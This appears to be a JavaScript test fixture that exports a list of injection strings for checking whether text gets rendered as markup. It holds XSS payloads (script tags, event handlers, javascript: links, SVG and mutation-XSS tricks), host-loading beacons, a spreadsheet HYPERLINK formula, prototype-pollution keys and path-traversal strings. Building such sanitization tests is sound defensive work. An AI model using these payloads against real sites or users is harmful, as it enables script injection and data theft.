/**
 * Texts that would run, load, make an element or break a block, wherever they were taken for more
 * than text. Those that load ask the given host, so that a test can hear of it.
 */

/** @param {string} host */
export const payloads = (host) => [
  // Scripts, and what ends the block that a text stands in.
  `<script>alert(1)</script>`,
  `<script src="http://${host}/script.js"></script>`,
  `</script><script>alert(1)</script>`,
  `</ScRiPt ><svg onload=alert(1)>`,
  `--></style></title></textarea></template><script>alert(1)//`,
  `<!--<script>alert(1)--></script>`,
  `<!--/page--></div><script>alert(1)</script><!--page-->`,
  `]]><![CDATA[<script>alert(1)</script>`,
  `<?xml version="1.0"?><?php echo 1 ?><script>alert(1)</script>`,
  `"},{"text":"</script><script>alert(1)</script>`,
  '${alert(1)} {{style}} #{alert(1)} `alert(1)`',
  `\\u003Cscript\\u003Ealert(1)\\u003C/script\\u003E \\x3cimg src=x onerror=alert(1)\\x3e`,
  `&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;lt;`,
  // Event handlers, also those that close an attribute first.
  `<img src=x onerror=alert(1)>`,
  `<IMG SRC="http://${host}/image" ONERROR="alert(1)">`,
  `"><img src=x onerror=alert(1)><a title="`,
  `' autofocus onfocus='alert(1)`,
  `x" onmouseover="alert(1)" style="position:fixed;inset:0`,
  `<input autofocus onfocus=alert(1)>`,
  `<details open ontoggle=alert(1)><summary>more</summary></details>`,
  `<video src="http://${host}/video" onerror=alert(1)></video><audio src="http://${host}/audio">`,
  `<body onload=alert(1) background="http://${host}/background">`,
  `<marquee onstart=alert(1)>news</marquee>`,
  `<p contenteditable draggable=true ondragstart=alert(1)>drag</p>`,
  // Links and forms.
  `<a href="javascript:alert(1)">read on</a>`,
  `${'javascript'}:alert(1)//http://example.org/story`,
  `java\tscript:alert(1)`,
  `<form action="javascript:alert(1)"><button formaction="http://${host}/form">send</button></form>`,
  `<isindex action="javascript:alert(1)" type=submit>`,
  `<base href="http://${host}/"><a href="story" ping="http://${host}/ping">story</a>`,
  `[read on](javascript:alert(1)) ![picture](http://${host}/markdown)`,
  // Documents in documents.
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<iframe src="http://${host}/frame"></iframe><frameset><frame src="http://${host}/frame"></frameset>`,
  `<object data="http://${host}/object"><embed src="http://${host}/embed"></object>`,
  `<portal src="http://${host}/portal"></portal><applet code="A" codebase="http://${host}/"></applet>`,
  // Drawings and formulas.
  `<svg onload=alert(1)><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a><use href="http://${host}/use#x"/></svg>`,
  `<svg><image href="http://${host}/svg"/><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>`,
  `<math><maction xlink:href="javascript:alert(1)" actiontype=statusline>x</maction></math>`,
  // What the head of a page may ask for.
  `<meta http-equiv="refresh" content="0;url=http://${host}/refresh">`,
  `<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *"><meta charset="utf-7">`,
  `<link rel=stylesheet href="http://${host}/link.css"><link rel=prefetch href="http://${host}/prefetch">`,
  `<style>@import "http://${host}/import.css"; body { background: url(http://${host}/style) }</style>`,
  `</style><style>* { display: none !important }</style>`,
  `<p style="background:url(http://${host}/inline);animation:x" onanimationstart=alert(1)>styled</p>`,
  // What services one thing to one parser and another to the next.
  `<template><script>alert(1)</script></template><slot name=x></slot>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">`,
  `<svg></p><style><a title="</style><img src=x onerror=alert(1)>">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><plaintext>`,
  `<select><template><img src=x onerror=alert(1)></template></select><keygen autofocus onfocus=alert(1)>`,
  `<img/src/onerror=alert(1)><x/onclick=alert(1)>x</x><img src="x\` \`<script>alert(1)</script>">`,
  `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
  // Data as an address.
  `<a href="data:text/html,<script>alert(1)</script>">data</a>`,
  `<object data="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"></object>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  // Keys of objects, formulas of spreadsheets, addresses of files.
  `__proto__`,
  `constructor`,
  `=HYPERLINK("http://${host}/cell","story")`,
  `..\\..\\C:\\con/nul\u0007<>:"|?*`,
  // Characters that end a line, a string or a direction.
  `one\u2028two\u2029three\u0085four`,
  `nothing\u0000here, zero\u200bwidth\ufeffmark\u00ad`,
  `right \u202eot\u2066 tfel\u2069 \u202c \u05d4\u05d2\u05e9\u05e8 \u0627\u0644\u062c\u0633\u0631`,
  `high \ud83d alone, low \ude00 alone, both \ud83d\ude00, turned \ude00\ud83d`,
  `e\u0301 \u00e9 \ufb01 Z\u0351\u036b\u0343\u036a\u0302A\u0360L\u0321G\u0334\u0321O \u{10ffff} \ufffe`,
];
